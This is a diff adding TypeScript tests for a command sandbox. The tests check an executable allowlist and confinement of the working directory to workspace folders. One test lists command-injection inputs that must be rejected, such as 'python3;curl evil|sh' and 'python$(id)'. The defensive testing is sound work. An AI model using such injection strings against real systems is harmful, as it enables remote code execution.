@@ -0,0 +1,110 @@
+import * as assert from 'assert';
+import * as fs from 'fs';
+import * as os from 'os';
+import * as path from 'path';
+import { isExecutableAllowed, resolveCommandCwd } from '../commandSandbox';
+
+describe('isExecutableAllowed', () => {
+    const cwd = os.tmpdir();
+
+    it('matches bare names against name globs', () => {
+        assert.strictEqual(isExecutableAllowed('python3', ['npm', 'python*'], cwd), true);
+        assert.strictEqual(isExecutableAllowed('git', ['npm', 'python*'], cwd), false);
+    });
+
+    it('ignores Windows executable extensions', () => {
+        assert.strictEqual(isExecutableAllowed('npm.cmd', ['npm'], cwd), true);
+        assert.strictEqual(isExecutableAllowed('git.EXE', ['git'], cwd), true);
+    });
+
+    it('rejects executables that are not a plain name or path', () => {
+        for (const executable of ['python3;curl evil|sh', 'python$(id)', 'python`id`', 'python3 -c x', 'python&calc', 'python>out', '']) {
+            assert.strictEqual(isExecutableAllowed(executable, ['python*', '*'], cwd), false, executable);
+        }
+    });
+
+    it('does not let name globs match executables given by path', () => {
+        assert.strictEqual(isExecutableAllowed('/usr/bin/python3', ['python*'], cwd), false);
+        assert.strictEqual(isExecutableAllowed('./python3', ['python*'], cwd), false);
+    });
+
+    it('matches paths, resolved against the working directory, against absolute path globs', () => {
+        const binDir = path.join(cwd, 'bin');
+        assert.strictEqual(isExecutableAllowed(path.join(binDir, 'tool'), [path.join(binDir, '*')], cwd), true);
+        assert.strictEqual(isExecutableAllowed('./bin/tool', [path.join(binDir, '*')], cwd), true);
+        assert.strictEqual(isExecutableAllowed('../tool', [path.join(binDir, '*')], binDir), false);
+        assert.strictEqual(isExecutableAllowed('tool', [path.join(binDir, '*')], cwd), false);
+    });
+
+    it('ignores relative path entries', () => {
+        assert.strictEqual(isExecutableAllowed('./tool', ['./tool'], cwd), false);
+    });
+
+    it('allows nothing with an empty allowlist', () => {
+        assert.strictEqual(isExecutableAllowed('npm', [], cwd), false);
+    });
+});
+
+describe('resolveCommandCwd', () => {
+    let root: string;
+    let workspace: string;
+    let outside: string;
+
+    beforeEach(() => {
+        root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'mcp-task-cwd-')));
+        workspace = path.join(root, 'workspace');
+        outside = path.join(root, 'outside');
+        fs.mkdirSync(path.join(workspace, 'src'), { recursive: true });
+        fs.mkdirSync(outside);
+    });
+
+    afterEach(() => {
+        fs.rmSync(root, { recursive: true, force: true });
+    });
+
+    it('defaults to the first workspace folder', () => {
+        assert.strictEqual(resolveCommandCwd(undefined, [workspace, outside], true), workspace);
+    });
+
+    it('resolves relative paths against the first workspace folder', () => {
+        assert.strictEqual(resolveCommandCwd('src', [workspace], true), path.join(workspace, 'src'));
+    });
+
+    it('rejects directories that do not exist', () => {
+        assert.throws(() => resolveCommandCwd('missing', [workspace], true), /does not exist/);
+    });
+
+    it('rejects directories outside the workspace folders when restricted', () => {
+        assert.throws(() => resolveCommandCwd(outside, [workspace], true), /outside the workspace folders/);
+        assert.throws(() => resolveCommandCwd('..', [workspace], true), /outside the workspace folders/);
+        assert.strictEqual(resolveCommandCwd(outside, [workspace], false), outside);
+    });
+
+    it('accepts any of the workspace folders', () => {
+        assert.strictEqual(resolveCommandCwd(outside, [workspace, outside], true), outside);
+    });
+
+    it('follows symlinks before checking the workspace boundary', function () {
+        const link = path.join(workspace, 'link');
+        try {
+            fs.symlinkSync(outside, link, 'dir');
+        } catch {
+            this.skip();
+        }
+        assert.throws(() => resolveCommandCwd('link', [workspace], true), /outside the workspace folders/);
+        assert.strictEqual(resolveCommandCwd('link', [workspace], false), outside);
+    });
+
+    it('does not treat a sibling folder with the same prefix as inside', () => {
+        const sibling = `${workspace}-other`;
+        fs.mkdirSync(sibling);
+        assert.throws(() => resolveCommandCwd(sibling, [workspace], true), /outside the workspace folders/);
+    });
+
+    it('needs a workspace folder unless unrestricted with an absolute path', () => {
+        assert.throws(() => resolveCommandCwd(undefined, [], false), /No workspace folder/);
+        assert.throws(() => resolveCommandCwd('src', [], false), /No workspace folder/);
+        assert.throws(() => resolveCommandCwd(outside, [], true), /No workspace folder/);
+        assert.strictEqual(resolveCommandCwd(outside, [], false), outside);
+    });
+});